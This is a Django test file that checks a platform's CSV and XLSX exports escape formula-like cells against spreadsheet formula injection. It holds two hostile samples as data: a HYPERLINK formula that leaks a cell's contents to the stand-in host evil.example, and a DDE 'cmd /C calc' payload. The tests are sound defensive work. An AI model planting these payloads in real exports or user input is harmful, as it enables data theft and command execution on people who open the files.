"""Hole 7: every spreadsheet the platform writes keeps formula-like text as text."""

import csv
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from openpyxl import load_workbook

from accounts.roles import Role
from catalog.factories import ProviderFactory, SupplyListingFactory
from catalog.models import SupplyListing
from moderation.models import Flag
from security.spreadsheets import FORMULA_PREFIXES, csv_cell

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_csv_cells_starting_like_a_formula_are_prefixed_with_an_apostrophe(prefix):
    assert csv_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["社区助餐", "1+1", "", 12, None, "a=b"])
def test_other_cells_are_left_alone(value):
    assert csv_cell(value) == value


def _cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


def test_the_supply_export_writes_a_hyperlink_title_as_text(user_with_role, login):
    provider = ProviderFactory()
    SupplyListingFactory(provider=provider, title=HOSTILE)
    response = login(user_with_role(Role.PROVIDER, provider=provider)).get(
        "/admin/catalog/export/supply.xlsx"
    )
    hostile = [cell for cell in _cells(response.content) if cell.value == HOSTILE]
    assert hostile, "the title is exported unchanged"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


def _flag(listing, message):
    return Flag.objects.create(
        content_type=ContentType.objects.get_for_model(SupplyListing),
        object_id=listing.pk,
        target_label=listing.title,
        rule="privacy",
        key="x",
        severity="high",
        message=message,
        excerpt="@SUM(1+1)*cmd|' /C calc'!A0",
        provider=listing.provider,
    )


def test_the_flag_csv_export_escapes_every_formula_like_cell(user_with_role, login):
    listing = SupplyListingFactory(title=HOSTILE)
    _flag(listing, "-2+3")
    response = login(user_with_role(Role.MONITOR)).get("/admin/moderation/flags/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    values = [value for row in rows[1:] for value in row]
    assert "'" + HOSTILE in values and "'-2+3" in values
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in values
    assert not any(value.startswith(FORMULA_PREFIXES) for value in values)


def test_the_flag_xlsx_export_keeps_formula_like_text_as_text(user_with_role, login):
    listing = SupplyListingFactory(title=HOSTILE)
    _flag(listing, "+1")
    response = login(user_with_role(Role.MONITOR)).get("/admin/moderation/flags/?export=xlsx")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    cells = [c for c in _cells(content) if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in cells} >= {HOSTILE, "+1"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
